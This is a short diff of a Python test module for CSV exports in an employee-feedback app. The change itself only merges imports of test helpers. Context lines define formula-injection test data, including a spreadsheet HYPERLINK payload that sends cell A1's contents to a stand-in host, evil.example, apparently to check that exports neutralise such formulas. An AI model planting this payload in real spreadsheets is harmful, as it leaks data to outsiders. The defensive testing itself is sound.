@@ -14,8 +14,7 @@ from engagement.exports import cell, csv_response
 from engagement.models import Department, Person
 from feedback import services
 from feedback.tables import BreakdownTable, DriverTable
-from tests.factories import make_program
-from tests.feedback.conftest import answers_for, open_window, pulse_form, survey_program
+from tests.factories import answers_for, make_program, open_window, pulse_form, survey_program
 
 PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
 PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"open")'
